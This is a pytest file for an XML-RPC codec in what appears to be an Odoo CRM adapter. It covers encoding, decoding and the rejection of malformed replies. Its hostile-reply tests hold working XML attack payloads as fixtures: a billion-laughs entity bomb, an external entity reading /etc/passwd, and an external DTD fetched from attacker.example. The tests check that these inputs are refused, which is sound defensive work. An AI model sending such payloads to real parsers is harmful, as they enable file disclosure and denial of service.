"""The XML-RPC codec: plain values in and out, and hostile replies refused cheaply."""

from __future__ import annotations

import tracemalloc
import xmlrpc.client
from datetime import datetime
from decimal import Decimal
from types import MappingProxyType

import pytest

from adapters.crm.codec import CannotMarshal, MalformedReply, decode_reply, encode_call
from tests.unit.adapters.crm.recorded import FAULT_1_TRACEBACK, PARTNER_7

CAP = 16 * 1024 * 1024


def decode(body: bytes, *, max_depth: int = 64, max_bytes: int = CAP) -> object:
    return decode_reply(body, max_depth=max_depth, max_bytes=max_bytes)


def response(inner: str) -> bytes:
    return (
        "<?xml version='1.0'?><methodResponse><params><param>"
        f"{inner}</param></params></methodResponse>"
    ).encode()


# -- encoding -----------------------------------------------------------------------------------


def test_encode_makes_mappings_structs_and_decimals_doubles() -> None:
    """A read-only mapping becomes a struct, a tuple an array and a Decimal a double."""
    body = encode_call(
        "m", [MappingProxyType({"a": (1, 2), "b": Decimal("2.5")})], allow_none=False
    )
    params, method = xmlrpc.client.loads(body)
    assert (method, params) == ("m", ({"a": [1, 2], "b": 2.5},))


def test_encode_none_follows_the_options() -> None:
    """None is nil with allow_none, False with none_as_false, and refused otherwise."""
    assert b"<nil/>" in encode_call("m", [None], allow_none=True)
    assert xmlrpc.client.loads(
        encode_call("m", [{"x": None}], allow_none=False, none_as_false=True)
    )[0] == ({"x": False},)
    with pytest.raises(CannotMarshal):
        encode_call("m", [None], allow_none=False)


def test_encode_refuses_what_xmlrpc_cannot_carry() -> None:
    """Integers beyond 32 bits, non-string struct keys and odd objects are CannotMarshal."""
    for value in (2**40, {1: "x"}, object()):
        with pytest.raises(CannotMarshal):
            encode_call("m", [value], allow_none=True)


# -- decoding -----------------------------------------------------------------------------------


def test_decode_keeps_odoo_values_as_they_are() -> None:
    """A recorded search_read keeps its many2one pair, its datetime string and its False."""
    assert decode(PARTNER_7) == [
        {
            "id": 7,
            "name": "Coho Logistics",
            "country_id": [57, "Germany"],
            "create_date": "2024-09-10 18:18:28",
            "phone": False,
        }
    ]


def test_decode_turns_datetime_and_base64_into_strings() -> None:
    """dateTime.iso8601 becomes ISO 8601 text and base64 a normalised base64 string."""
    body = response(
        "<value><array><data>"
        "<value><dateTime.iso8601>20260201T09:30:00</dateTime.iso8601></value>"
        "<value><base64>aGVs\nbG8=</base64></value>"
        "</data></array></value>"
    )
    assert decode(body) == ["2026-02-01T09:30:00", "aGVsbG8="]


def test_decode_raises_the_fault() -> None:
    """A fault response is raised as xmlrpc.client.Fault with its code and string."""
    with pytest.raises(xmlrpc.client.Fault) as caught:
        decode(FAULT_1_TRACEBACK)
    assert caught.value.faultCode == 1
    assert caught.value.faultString.startswith("Traceback")


@pytest.mark.parametrize(
    "body",
    [
        b"<?xml version='1.0'?>\n<methodResponse>\n<params>\n<param>\n<value><array><data>\n"
        b"<value><struct>\n<member>\n<name>name</name>\n<value><string>Adatum Tra",
        b"<html><body>not xml-rpc</body></html>",
        b"",
        response("<value><int>seven</int></value>"),
        b"<methodResponse><params><param><value><int>1</int></value></param>"
        b"<param><value><int>2</int></value></param></params></methodResponse>",
    ],
    ids=["truncated", "html", "empty", "bad-int", "two-values"],
)
def test_decode_refuses_what_is_not_one_methodresponse(body: bytes) -> None:
    """Truncated, foreign, empty, mistyped or multi-valued replies are MalformedReply."""
    with pytest.raises(MalformedReply):
        decode(body)


def test_decode_refuses_oversize_bodies() -> None:
    """A body over the byte cap is refused before it is parsed."""
    with pytest.raises(MalformedReply, match="cap"):
        decode(response("<value><string>" + "x" * 2000 + "</string></value>"), max_bytes=1024)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<methodResponse><params><param><value><string>&lol9;</string></value></param></params>
</methodResponse>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE methodResponse [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<methodResponse><params><param><value><string>&x;</string></value></param></params>
</methodResponse>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE methodResponse SYSTEM "http://attacker.example/evil.dtd">
<methodResponse><params><param><value><string>hi</string></value></param></params>
</methodResponse>"""

DEEP = response("<value><array><data>" * 10_000 + "</data></array></value>" * 10_000)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (BILLION_LAUGHS, "DTDForbidden"),
        (EXTERNAL_ENTITY, "DTDForbidden"),
        (EXTERNAL_DTD, "DTDForbidden"),
        (DEEP, "deeper than 64"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "nesting-10000"],
)
def test_hostile_replies_are_refused_in_bounded_memory(body: bytes, reason: str) -> None:
    """Entity bombs, external entities/DTDs and deep nesting are refused by our guards, < 2 MB."""
    tracemalloc.start()
    try:
        with pytest.raises(MalformedReply) as caught:
            decode(body)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * 1024 * 1024
    assert reason in str(caught.value)
    assert "root:" not in str(caught.value)  # nothing of /etc/passwd was read


def test_nesting_within_the_cap_is_accepted() -> None:
    """Fifteen nested arrays (49 elements deep) parse under the default cap of 64."""
    body = response("<value><array><data>" * 15 + "</data></array></value>" * 15)
    value: object = decode(body)
    for _ in range(14):
        assert isinstance(value, list)
        value = value[0]
    assert value == []


def test_decode_with_a_date_that_is_already_iso_is_kept() -> None:
    """A dateTime already in extended ISO form is passed through (stripped), not rejected."""
    when = datetime(2026, 2, 1, 9, 30).isoformat()
    body = response(f"<value><dateTime.iso8601> {when} </dateTime.iso8601></value>")
    assert decode(body) == when
